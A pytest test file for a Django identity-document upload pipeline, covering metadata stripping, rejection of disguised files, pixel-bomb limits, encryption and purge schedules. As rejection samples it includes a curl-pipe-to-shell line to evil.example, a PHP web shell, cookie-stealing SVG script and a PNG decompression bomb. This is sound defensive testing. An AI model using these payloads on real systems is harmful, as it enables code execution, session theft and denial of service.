"""Identity document uploads: accepted by content, stripped, encrypted at rest, purged on time."""

import io
import re
import struct
import zipfile
import zlib
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from cryptography.fernet import Fernet, InvalidToken
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import IntegrityError
from PIL import ExifTags, Image, ImageCms, ImageFile, TiffImagePlugin

from accounts import documents
from accounts.models import IdentityDocument
from accounts.tasks import purge_identity_documents
from core.audit import entries_for
from portal.celery import app as celery_app
from tests.factories import IdentityCheckFactory

GPS_LATITUDE = TiffImagePlugin.IFDRational(352719, 10000)
GPS_RAW = struct.pack(">LL", 352719, 10000)  # Pillow writes big-endian EXIF
PLANTED = [b"PLANTED-GPS-DATUM", b"PlantedCam", b"PLANTED-XMP", b"planted comment", GPS_RAW]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    """A private file storage of its own for each test."""
    configured = settings.STORAGES["default"]
    options = {**configured.get("OPTIONS", {}), "location": tmp_path / "media"}
    default = {"BACKEND": configured["BACKEND"], "OPTIONS": options}
    settings.STORAGES = {**settings.STORAGES, "default": default}
    return tmp_path / "media"


def stored_files(media):
    return sorted(p.name for p in media.rglob("*") if p.is_file())


def exif_with_gps(orientation=6) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PlantedCam"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (GPS_LATITUDE, GPS_LATITUDE, GPS_LATITUDE)
    gps[ExifTags.GPS.GPSMapDatum] = "PLANTED-GPS-DATUM"
    return exif


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **params)
    return out.getvalue()


def photo(size=(3000, 2000), mode="RGB") -> Image.Image:
    image = Image.new(mode, size, "navy")
    image.paste("orange", (0, 0, size[0] // 3, size[1] // 3))
    return image


def camera_jpeg() -> bytes:
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">PLANTED-XMP</x:xmpmeta>'
    exif = exif_with_gps().tobytes()
    return encode(photo(), "JPEG", exif=exif, icc_profile=icc, comment=b"planted comment", xmp=xmp)


def upload(data: bytes, name="photo.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def rejected(data: bytes, **kwargs) -> str:
    with pytest.raises(documents.DocumentRejected) as caught:
        documents.sanitize_image(upload(data, **kwargs))
    assert str(caught.value.message)
    return caught.value.code


def assert_bare_jpeg(content: bytes):
    assert content.startswith(b"\xff\xd8\xff")
    assert [planted for planted in PLANTED if planted in content] == []
    image = Image.open(io.BytesIO(content))
    image.load()
    assert image.format == "JPEG" and image.mode == "RGB" and not image.getexif()
    assert not {"exif", "icc_profile", "xmp", "comment"} & set(image.info)
    return image


def test_camera_jpeg_is_reencoded_without_exif_gps_icc_xmp_or_comment(settings):
    original = camera_jpeg()
    assert all(planted in original for planted in PLANTED)
    result = documents.sanitize_image(upload(original))
    image = assert_bare_jpeg(result.content)
    assert result.content != original and result.content_type == "image/jpeg"
    assert image.size == (result.width, result.height) == (1600, 2400)  # turned upright, shrunk
    assert result.sha256 == documents.hashlib.sha256(result.content).hexdigest()


def test_png_with_transparency_and_heic_with_exif_are_accepted():
    png = documents.sanitize_image(upload(encode(photo((300, 200), "RGBA"), "PNG")))
    assert assert_bare_jpeg(png.content).size == (300, 200)
    heic = encode(photo((320, 240)), "HEIF", exif=exif_with_gps(orientation=1).tobytes())
    assert heic[4:12] == b"ftypheic" and b"PLANTED-GPS-DATUM" in heic
    result = documents.sanitize_image(upload(heic, name="IMG_0001.HEIC"))
    assert assert_bare_jpeg(result.content).size == (320, 240)


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.php", "<?php system($_GET['c']); ?>")
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
TINY_JPEG, TINY_PNG = encode(photo((50, 50)), "JPEG"), encode(photo((50, 50)), "PNG")
REFUSED = {
    "python": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
    "shell": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "svg": SVG,
    "svg-xml": b'<?xml version="1.0"?>' + SVG,
    "html": b"<html><body><script>alert(1)</script></body></html>",
    "pdf": b"%PDF-1.7\n1 0 obj << >> endobj\n",
    "gif": encode(photo((20, 20)), "GIF"),
    "webp": encode(photo((20, 20)), "WEBP"),
    "empty": b"",
}
POLYGLOTS = {
    "jpeg-script": TINY_JPEG + b"<script>alert(1)</script>",
    "jpeg-zip": TINY_JPEG + zip_bytes(),
    "jpeg-svg-comment": encode(photo((50, 50)), "JPEG", comment=b"<svg onload=alert(1)>"),
    "png-php": TINY_PNG + b"<?php echo 1; ?>",
    "png-pdf": TINY_PNG + b"%PDF-1.4",
}


@pytest.mark.parametrize(
    ("name", "code"),
    [(name, "unsupported_type") for name in REFUSED]
    + [(name, "suspicious_content") for name in POLYGLOTS],
)
def test_scripts_other_formats_and_polyglots_named_jpg_are_refused(name, code):
    data = {**REFUSED, **POLYGLOTS}[name]
    assert rejected(data, name="passport.jpg", content_type="image/jpeg") == code


def png_bomb(width=30000, height=30000) -> bytes:
    """A real 1-bit PNG of 900 megapixels, all zero, compressed to about 100 kB."""

    def chunk(kind, body):
        crc = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + crc

    compressor = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_pixel_bombs_are_refused_before_decoding(monkeypatch):
    bomb = png_bomb()
    assert len(bomb) < 200_000
    loads = []
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda image: loads.append(image))
    assert rejected(bomb, name="cnic.png", content_type="image/png") == "too_many_pixels"
    assert loads == []


@pytest.mark.parametrize("global_limit", [None, 10**12])
def test_the_pixel_limit_holds_whatever_pillow_is_set_to(settings, monkeypatch, global_limit):
    settings.IDENTITY_UPLOAD_MAX_PIXELS = 5000
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", global_limit)
    assert rejected(encode(photo((100, 60)), "PNG")) == "too_many_pixels"
    assert rejected(encode(photo((100, 100)), "JPEG")) == "too_many_pixels"
    assert global_limit == Image.MAX_IMAGE_PIXELS
    assert documents.sanitize_image(upload(encode(photo((70, 70)), "PNG"))).width == 70


def test_truncated_or_damaged_images_are_refused(monkeypatch):
    jpeg, png = encode(photo((400, 300)), "JPEG"), TINY_PNG
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert rejected(jpeg[: len(jpeg) // 2]) == "corrupt"
    assert rejected(b"\xff\xd8\xff" + bytes(range(256)) * 4) == "corrupt"
    bad_crc = png[:29] + bytes([png[29] ^ 0xFF]) + png[30:]
    assert rejected(bad_crc) == "corrupt"
    assert rejected(b"\x00\x00\x00\x18ftypheic" + bytes(64)) == "corrupt"


@pytest.fixture
def check(db):
    return IdentityCheckFactory()


def test_stored_bytes_are_encrypted_under_a_server_name_and_read_back(check, media):
    original = camera_jpeg()
    document = documents.store_document(
        check=check, kind="front", upload=upload(original, name="my-cnic-front.jpg")
    )
    assert re.fullmatch(r"identity/[0-9a-f]{32}\.bin", document.file.name)
    assert "cnic" not in document.file.name and "front" not in document.file.name
    path = media / document.file.name
    assert (path.stat().st_mode & 0o777, path.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    stored = path.read_bytes()
    plain = documents.read_document(document)
    assert not stored.startswith(b"\xff\xd8\xff") and plain not in stored
    assert original[:64] not in stored and b"JFIF" not in stored
    assert_bare_jpeg(plain)
    document.refresh_from_db()
    assert (document.content_type, document.size_bytes) == ("image/jpeg", len(plain))
    assert document.sha256 == documents.hashlib.sha256(plain).hexdigest()
    other = documents.store_document(check=check, kind="back", upload=upload(TINY_PNG))
    (media / document.file.name).write_bytes((media / other.file.name).read_bytes())
    with pytest.raises(documents.DocumentTampered):  # files swapped in the storage
        documents.read_document(document)


def test_nothing_is_half_written(check, media):
    with pytest.raises(documents.DocumentRejected):
        documents.store_document(check=check, kind="front", upload=upload(SVG, name="x.jpg"))
    assert stored_files(media) == [] and not IdentityDocument.objects.exists()
    documents.store_document(check=check, kind="back", upload=upload(TINY_JPEG))
    with pytest.raises(IntegrityError):  # one document per kind: the second row fails
        documents.store_document(check=check, kind="back", upload=upload(TINY_PNG))
    assert len(stored_files(media)) == 1 and IdentityDocument.objects.count() == 1


def test_keys_rotate(check, settings):
    key_a, key_b = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    settings.IDENTITY_DOCUMENT_KEYS = [key_a]
    document = documents.store_document(check=check, kind="selfie", upload=upload(camera_jpeg()))
    plain, old_name = documents.read_document(document), document.file.name
    settings.IDENTITY_DOCUMENT_KEYS = [key_b, key_a]
    out = io.StringIO()
    call_command("rotate_document_keys", stdout=out)
    assert "Re-encrypted 1 identity documents and 0 support screenshots" in out.getvalue()
    assert not default_storage.exists(old_name)
    document.refresh_from_db()
    settings.IDENTITY_DOCUMENT_KEYS = [key_b]
    assert documents.read_document(document) == plain
    settings.IDENTITY_DOCUMENT_KEYS = [key_a]
    with pytest.raises(InvalidToken):
        documents.read_document(document)


START = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)


def check_with_documents(status, reviewed_at=None):
    check = IdentityCheckFactory(status=status, reviewed_at=reviewed_at)
    for kind in IdentityDocument.Kind.values:
        documents.store_document(check=check, kind=kind, upload=upload(TINY_JPEG))
    return check


@pytest.mark.django_db
def test_daily_purge_deletes_files_of_old_decisions_and_keeps_hashes(media):
    entry = celery_app.conf.beat_schedule["purge-identity-documents"]
    assert entry == {"task": "accounts.tasks.purge_identity_documents", "schedule": 86400.0}
    assert entry["task"] in celery_app.tasks
    with time_machine.travel(START, tick=False):
        approved = check_with_documents("approved", reviewed_at=START)
        rejected_ = check_with_documents("rejected", reviewed_at=START)
        withdrawn = check_with_documents("withdrawn")
        pending = check_with_documents("pending")
        recent = check_with_documents("approved", reviewed_at=START + timedelta(days=20))
    hashes = dict(IdentityDocument.objects.values_list("pk", "sha256"))
    assert len(stored_files(media)) == 15
    with time_machine.travel(START + timedelta(days=29), tick=False):
        assert purge_identity_documents.apply().get() == 0
    with time_machine.travel(START + timedelta(days=31), tick=False):
        assert purge_identity_documents.apply().get() == 9
        assert purge_identity_documents.apply().get() == 0
    assert len(stored_files(media)) == 6
    for check in (approved, rejected_, withdrawn):
        assert [e.actor_label for e in entries_for(check)] == ["retention"]
        for document in check.documents.all():
            assert document.purged_at == START + timedelta(days=31)
            assert document.file.name == "" and document.sha256 == hashes[document.pk]
            with pytest.raises(documents.DocumentPurged):
                documents.read_document(document)
    for check in (pending, recent):
        assert not entries_for(check).exists()
        for document in check.documents.all():
            assert document.purged_at is None and documents.read_document(document)


@pytest.mark.real_clock  # a file's age comes from its modification time, on the machine's clock
def test_orphan_files_are_swept_after_a_day(check, media):
    kept = documents.store_document(check=check, kind="front", upload=upload(TINY_PNG))
    (media / "identity" / f"{'a' * 32}.bin").write_bytes(b"left by a rolled-back request")
    (media / "identity" / "README").write_text("not ours")
    assert documents.delete_orphan_files() == 0
    with time_machine.travel(datetime.now(UTC) + timedelta(days=2)):
        assert documents.delete_orphan_files() == 1
    assert stored_files(media) == sorted(["README", kept.file.name.split("/")[1]])
